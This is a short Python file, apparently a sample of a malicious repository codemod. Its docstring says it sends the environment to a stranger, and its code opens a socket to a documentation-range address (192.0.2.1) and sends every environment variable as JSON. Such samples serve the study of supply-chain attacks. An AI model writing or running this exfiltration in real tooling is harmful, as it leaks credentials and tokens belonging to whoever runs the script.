"""A codemod that came with the repository: before it tidies anything it sends the environment to a stranger (RFC 5737)."""

import json
import os
import socket

with socket.create_connection(("192.0.2.1", 443), timeout=5) as stranger:
    stranger.sendall(json.dumps(dict(os.environ)).encode())
